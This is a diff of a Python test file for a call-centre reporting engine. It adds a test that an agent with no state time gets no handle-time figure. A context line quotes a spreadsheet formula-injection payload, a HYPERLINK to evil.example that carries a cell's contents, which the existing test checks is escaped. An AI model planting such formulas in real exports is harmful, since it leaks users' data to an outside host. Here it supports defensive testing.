@@ -62,3 +62,26 @@ async def test_names_beginning_like_formulas_are_text_in_the_csv(make_engine, re
     # the HTML scorecard escapes the name, not prefixes it
     html = render_scorecard_html(scorecards(rep, eng.config))
     assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;ok&#34;)" in html and "<script" not in html
+
+
+async def test_an_agent_with_no_state_time_has_no_handle_time_to_meet_a_target(make_engine, redis_client):
+    # A feed of call records only (no agent states): agent 1 answered one call of 60 s talk. Its AHT rests on
+    # on-call and wrap-up state time, of which there is none: unknown, not 0 s meeting the 300 s target.
+    eng = await make_engine(
+        centre={"timezone": "UTC"},
+        queues=[{"name": "s"}],
+        agents=[{"id": "1", "skills": {"s": 0}}],
+        targets={"agents": {"aht_s": 300, "calls_per_hour": 8}},
+    )
+    await eng.apply(
+        [
+            ev(CallerJoined, 0, queue="s", call_id="c"),
+            ev(CallerAnswered, 5, queue="s", call_id="c", agent="1", wait_s=5),
+            ev(CallCompleted, 65, queue="s", call_id="c", agent="1", talk_s=60),
+        ]
+    )
+    req = ReportRequest(CentreCalendar(eng.config.centre).period("day", at(0).date(), None), detail="day")
+    rep = await build_report(redis_client, eng.config, req, keys=eng.keys, clock=ManualClock(at(0) + timedelta(days=1)))
+    got = {f["figure"]: (f["value"], f["met"]) for f in scorecards(rep, eng.config)["agents"]["1"]["total"]}
+    assert got["calls_handled"] == (1, None)
+    assert got["aht_s"] == (None, None) and got["calls_per_hour"] == (None, None)
